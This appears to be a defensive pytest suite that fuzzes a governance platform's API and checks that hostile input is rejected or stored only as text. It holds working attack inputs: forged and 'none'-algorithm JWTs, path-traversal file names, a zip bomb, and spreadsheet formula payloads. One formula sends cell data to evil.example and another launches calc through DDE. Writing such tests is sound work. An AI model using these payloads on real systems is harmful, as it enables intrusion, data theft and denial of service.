"""Hostile and malformed input through the public API: never a 5xx, always a clear 4xx
problem, and nothing written. Property-based over every documented route with
schemathesis, as several roles, plus hand-written attacks."""

import base64
import io
import json
import time
import zipfile

import jwt
import openpyxl
import pytest
import requests
import schemathesis
from hypothesis import HealthCheck, given, settings
from schemathesis.checks import not_a_server_error
from schemathesis.specs.openapi.checks import (
    content_type_conformance,
    response_schema_conformance,
    status_code_conformance,
)

from common import xlsx
from services.tasks.taskflow.queries import XLSX_HEADERS

ROLES = ("admin", "township", "member")
# Routes whose call changes who can sign in (tokens, passwords); exercised by hand below and in
# the access table instead, so the fuzzing cannot lock itself out.
EXCLUDED = ("/api/v1/auth/logout", "/api/v1/auth/login", "/api/v1/people/{person_id}/account")


@pytest.fixture(scope="module")
def role_headers(platform_module):
    return {role: platform_module.login(role) for role in ROLES}


def test_every_route_answers_within_its_contract(platform_module, role_headers):
    """schemathesis generates requests for every documented operation; each is sent as
    several roles and must get a documented status, content type and body — never a 5xx."""
    schema = schemathesis.openapi.from_url(platform_module.base_url + "/openapi.json")
    checks = [
        not_a_server_error,
        status_code_conformance,
        response_schema_conformance,
        content_type_conformance,
    ]
    tested = []
    for result in schema.get_all_operations():
        operation = result.ok()
        if operation.path in EXCLUDED:
            continue

        @settings(max_examples=12, deadline=None, database=None, suppress_health_check=list(HealthCheck))
        @given(case=operation.as_strategy())
        def exercise(case):
            for role in ROLES:
                case.call_and_validate(headers=role_headers[role], checks=checks, timeout=30)

        exercise()
        tested.append(f"{operation.method.upper()} {operation.path}")
    assert len(tested) >= 15, tested


def test_hand_written_attacks(platform_module):
    base = platform_module.base_url
    admin = platform_module.login("admin")
    people_before = requests.get(base + "/api/v1/people?per_page=1", headers=admin, timeout=10).json()[
        "meta"
    ]["total"]

    # an oversized body
    r = requests.post(
        base + "/api/v1/people",
        headers={**admin, "Content-Type": "application/json"},
        data=b"{" + b" " * (2 * 1024 * 1024) + b"}",
        timeout=30,
    )
    assert r.status_code == 413 and r.json()["code"] == "payload_too_large"
    # deeply nested JSON
    deep = "[" * 100_000 + "]" * 100_000
    r = requests.post(
        base + "/api/v1/people", headers={**admin, "Content-Type": "application/json"}, data=deep, timeout=30
    )
    assert r.status_code in (400, 413) and r.headers["Content-Type"].startswith("application/problem+json")
    # JSON that is not an object, and the wrong content type
    r = requests.post(base + "/api/v1/people", headers=admin, json=[1, 2], timeout=10)
    assert r.status_code == 422
    r = requests.post(
        base + "/api/v1/people", headers={**admin, "Content-Type": "text/plain"}, data="name=x", timeout=10
    )
    assert r.status_code == 415
    # malformed, forged and expired tokens
    for header in ("Bearer", "Basic YWRtaW46eA==", "Bearer a.b.c", "Bearer " + "x" * 5000):
        r = requests.get(base + "/api/v1/me", headers={"Authorization": header}, timeout=10)
        assert r.status_code == 401, header
    token = admin["Authorization"].split()[1]
    claims = json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))
    forged = jwt.encode({**claims, "roles": ["county_admin"]}, "not-the-secret", algorithm="HS256")
    assert (
        requests.get(
            base + "/api/v1/me", headers={"Authorization": f"Bearer {forged}"}, timeout=10
        ).status_code
        == 401
    )
    unsigned = jwt.encode({**claims}, None, algorithm="none")
    assert (
        requests.get(
            base + "/api/v1/me", headers={"Authorization": f"Bearer {unsigned}"}, timeout=10
        ).status_code
        == 401
    )
    expired_claims = {**claims, "exp": int(time.time()) - 10}
    expired = jwt.encode(expired_claims, "not-the-secret", algorithm="HS256")
    r = requests.get(base + "/api/v1/me", headers={"Authorization": f"Bearer {expired}"}, timeout=10)
    assert r.status_code == 401
    # a forged upload type: an "xlsx" that is not a workbook; a path in the file name
    r = requests.post(
        base + "/api/v1/imports/people",
        headers=admin,
        files={"file": ("../../etc/passwd.xlsx", b"not a zip")},
        timeout=30,
    )
    assert r.status_code == 400 and r.json()["code"] == "import_unreadable"
    r = requests.post(
        base + "/api/v1/imports/people",
        headers=admin,
        files={"file": ("people.exe", b"MZ\x90\x00")},
        timeout=30,
    )
    assert r.status_code == 400
    # traversal in path parameters never reaches a file
    for path in (
        "/api/v1/imports/..%2f..%2fetc/template",
        "/docs/static/..%2f..%2fREADME.md",
        "/console/%2e%2e/%2e%2e/README.md",
    ):
        r = requests.get(base + path, headers=admin, timeout=10)
        assert r.status_code in (400, 404, 422) or "Grassroots governance open platform" not in r.text

    # and nothing above was written
    people_after = requests.get(base + "/api/v1/people?per_page=1", headers=admin, timeout=10).json()["meta"][
        "total"
    ]
    assert people_after == people_before


def _workbook(rows: list[list], padding: int = 0) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    if not padding:
        return out.getvalue()
    padded = io.BytesIO()  # the same workbook, its sheet inflating to `padding` more bytes
    with zipfile.ZipFile(out) as src, zipfile.ZipFile(padded, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            dst.writestr(
                info.filename, data + b" " * padding if info.filename.endswith("sheet1.xml") else data
            )
    return padded.getvalue()


def test_hostile_files_in_and_out(platform_module):
    base = platform_module.base_url + "/api/v1"
    admin = platform_module.login("admin")
    people = [["编号", "姓名", "角色", "所属组织编码"]]
    catalogue_before = requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]

    # a zip bomb: small on the wire, 120 MB inflated; refused before parsing
    bomb = _workbook(people, padding=120 * 1024 * 1024)
    assert len(bomb) < 10 * 1024 * 1024
    for path, name in (("/imports/people", "人员.xlsx"), ("/catalogue/import", "事项.xlsx")):
        r = requests.post(base + path, headers=admin, files={"file": (name, bomb)}, timeout=60)
        assert r.status_code == 413 and r.json()["code"] == "import_too_large", r.text
        assert r.json()["title"] == "导入文件解压后过大(上限 100 MB)或压缩比异常,请拆分后再导入"

    # more rows than this platform allows (GOV_IMPORT_MAX_ROWS=200)
    many = _workbook(people + [[f"P{i}", "张三", "党员", "G1"] for i in range(250)])
    r = requests.post(
        base + "/imports/people",
        headers={**admin, "Accept-Language": "en"},
        files={"file": ("p.xlsx", many)},
        timeout=60,
    )
    assert (r.status_code, r.json()["code"], r.json()["title"]) == (
        422,
        "import_too_many_rows",
        "The import file has more than 200 rows; split it",
    )

    # a formula in a matter's name goes in as text and comes out of the export as text
    hostile = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
    row = [
        "ZX901",
        hostile,
        "其他",
        "村",
        "县委社会工作部",
        5,
        "否",
        "文字说明",
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        "在用",
    ]
    r = requests.post(
        base + "/catalogue/import",
        headers=admin,
        # typed as text (in Excel: with a leading apostrophe); a real formula would import empty
        files={"file": ("c.xlsx", xlsx.write_workbook("事项清单", XLSX_HEADERS, [row]))},
        timeout=60,
    )
    assert r.status_code == 200 and r.json()["created"] == 1, r.text
    assert (
        requests.get(base + "/catalogue", headers=admin, timeout=10).json()["meta"]["total"]
        == catalogue_before + 1
    )
    exported = requests.get(base + "/catalogue/export", headers=admin, timeout=30)
    [line] = [
        r
        for r in openpyxl.load_workbook(io.BytesIO(exported.content)).active.iter_rows()
        if r[0].value == "ZX901"
    ]
    for cell, text in ((line[1], hostile), (line[8], "@SUM(1+1)"), (line[9], "+cmd|' /C calc'!A0")):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
